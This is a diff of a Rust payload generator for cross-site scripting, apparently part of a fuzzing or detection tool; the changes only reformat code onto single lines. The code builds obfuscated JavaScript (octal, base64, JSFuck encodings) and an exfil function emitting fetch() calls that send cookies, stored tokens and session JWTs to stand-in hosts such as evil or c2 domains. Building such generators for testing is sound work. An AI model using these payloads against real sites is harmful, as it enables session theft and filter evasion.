@@ -21,18 +21,7 @@ pub static XSS_JS_EXPRESSION: XssJsExpression = XssJsExpression;
 
 const PROBES: &[&str] = &["alert", "prompt", "confirm"];
 const GLOBALS: &[&str] = &["window", "self", "top", "parent", "frames", "globalThis", "this"];
-const ARGS: &[&str] = &[
-    "1",
-    "document.domain",
-    "document.cookie",
-    "origin",
-    "'XSS'",
-    "\"xss\"",
-    "1337",
-    "/xss/",
-    "String(1)",
-    "location",
-];
+const ARGS: &[&str] = &["1", "document.domain", "document.cookie", "origin", "'XSS'", "\"xss\"", "1337", "/xss/", "String(1)", "location"];
 
 impl Family for XssJsExpression {
     fn name(&self) -> &'static str {
@@ -144,14 +133,8 @@ pub fn expression(rng: &mut Rng, names: &mut Vec<&'static str>) -> (String, &'st
 
 /// Code that sends the page's secrets to another origin or navigates there.
 fn exfil(rng: &mut Rng) -> String {
-    let host = format!(
-        "{}{}.{}",
-        rng.pick(&["evil", "x", "atk", "c2", "log"]),
-        rng.range(0, 999),
-        rng.pick(&["com", "io", "rs", "net"])
-    );
-    let secret =
-        *rng.pick(&["document.cookie", "localStorage.token", "document.cookie", "sessionStorage.getItem('jwt')"]);
+    let host = format!("{}{}.{}", rng.pick(&["evil", "x", "atk", "c2", "log"]), rng.range(0, 999), rng.pick(&["com", "io", "rs", "net"]));
+    let secret = *rng.pick(&["document.cookie", "localStorage.token", "document.cookie", "sessionStorage.getItem('jwt')"]);
     match rng.below(7) {
         0 => format!("fetch('//{host}/?c='+{secret})"),
         1 => format!("fetch(`https://{host}/${{{secret}}}`)"),
@@ -220,9 +203,7 @@ fn split(rng: &mut Rng, text: &str) -> Vec<String> {
 }
 
 fn octal(rng: &mut Rng, text: &str) -> String {
-    text.chars()
-        .map(|c| if c.is_ascii_alphabetic() && rng.chance(0.6) { format!("\\{:o}", c as u32) } else { c.to_string() })
-        .collect()
+    text.chars().map(|c| if c.is_ascii_alphabetic() && rng.chance(0.6) { format!("\\{:o}", c as u32) } else { c.to_string() }).collect()
 }
 
 fn from_char_code(text: &str) -> String {
@@ -235,8 +216,7 @@ pub fn base64(text: &str) -> String {
     let b = text.as_bytes();
     let mut out = String::new();
     for chunk in b.chunks(3) {
-        let n =
-            (chunk[0] as u32) << 16 | (*chunk.get(1).unwrap_or(&0) as u32) << 8 | *chunk.get(2).unwrap_or(&0) as u32;
+        let n = (chunk[0] as u32) << 16 | (*chunk.get(1).unwrap_or(&0) as u32) << 8 | *chunk.get(2).unwrap_or(&0) as u32;
         for k in 0..4 {
             if k <= chunk.len() {
                 out.push(A[(n >> (18 - 6 * k) & 63) as usize] as char);
@@ -319,8 +299,7 @@ fn jsfuck_index(n: usize) -> String {
     if n < 10 {
         return jsfuck_number(n);
     }
-    let digits: Vec<String> =
-        n.to_string().bytes().map(|d| format!("({}+[])", jsfuck_number((d - b'0') as usize))).collect();
+    let digits: Vec<String> = n.to_string().bytes().map(|d| format!("({}+[])", jsfuck_number((d - b'0') as usize))).collect();
     format!("+({})", digits.join("+"))
 }
 
@@ -341,10 +320,7 @@ fn jsfuck_string(text: &str, flat_src: Option<&str>) -> String {
             if let Some(d) = c.to_digit(10) {
                 return format!("({}+[])", jsfuck_number(d as usize));
             }
-            sources
-                .iter()
-                .find_map(|(e, s)| s.find(c).map(|i| format!("{e}[{}]", jsfuck_index(i))))
-                .unwrap_or_else(|| format!("'{c}'"))
+            sources.iter().find_map(|(e, s)| s.find(c).map(|i| format!("{e}[{}]", jsfuck_index(i)))).unwrap_or_else(|| format!("'{c}'"))
         })
         .collect();
     parts.join("+")
